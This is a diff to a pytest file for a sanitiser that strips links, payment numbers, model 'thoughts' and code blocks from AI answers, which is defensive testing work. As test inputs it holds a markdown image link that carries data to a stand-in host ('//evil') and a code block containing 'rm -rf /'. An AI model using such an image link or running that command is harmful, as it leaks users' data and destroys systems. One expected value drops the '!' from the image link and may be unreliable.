@@ -67,7 +67,9 @@ def test_a_picture_is_no_way_out() -> None:
     """Its address may carry what the model knows; it goes with the sentence that it stands in."""
     found = strip(f"{PLAIN} Look: ![x](//evil/p.png?q=Ruth). I hope so.")
     assert found.text == f"{PLAIN} I hope so."
-    assert [each.why for each in found.left_out] == ["a link"]
+    assert [(each.words, each.why) for each in found.left_out] == [
+        ("Look: [x](//evil/p.png?q=Ruth).", "a link")
+    ]
 
 
 @pytest.mark.parametrize(
@@ -104,6 +106,23 @@ def test_letters_with_accents_stay_in_whatever_form() -> None:
     assert strip("Tomás and Tomás met.").text == "Tomás and Tomás met."
 
 
+@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
+def test_a_line_ends_as_on_any_machine(end: str) -> None:
+    """Two ends are a paragraph, one is a wrapped line, and none of them is a hidden sign."""
+    found = strip(f"Thank you for{end}your time.{end}{end}I hope so.")
+    assert found.text == "Thank you for your time.\n\nI hope so."
+    assert found.left_out == ()
+
+
+@pytest.mark.parametrize("space", [" ", "\u00a0", "\u2028", "\u2029"])
+def test_no_other_space_hides_a_way_to_pay(space: str) -> None:
+    """A space that does not break, or that breaks a line or a paragraph, is a space."""
+    number = space.join("DE89 3704 0044 0532 0130".split())
+    found = strip(f"{PLAIN} Pay to {number} today. I hope so.")
+    assert found.text == f"{PLAIN} I hope so."
+    assert [each.why for each in found.left_out] == ["a way to pay"]
+
+
 def test_lines_inside_a_paragraph_are_one() -> None:
     """A model that wraps its lines ends no sentence by it."""
     assert strip("Thank you for\nyour time. I\nhope so.\n \n\nSoon.").text == (
@@ -116,7 +135,10 @@ def test_blocks_of_code_and_thoughts_go_whole() -> None:
     answer = f"<think>Dear me. A plan.</think>\n{PLAIN}\n\n```\nrm -rf /\n```\n"
     found = strip(answer)
     assert found.text == PLAIN
-    assert [each.why for each in found.left_out] == ["thoughts of the model", "code or mark-up"]
+    assert [(each.words, each.why) for each in found.left_out] == [
+        ("<think>Dear me. A plan.</think>", "thoughts of the model"),
+        ("```\nrm -rf /\n```", "code or mark-up"),
+    ]
 
 
 def test_a_flood_of_links_is_taken_out_and_shown_in_part() -> None:
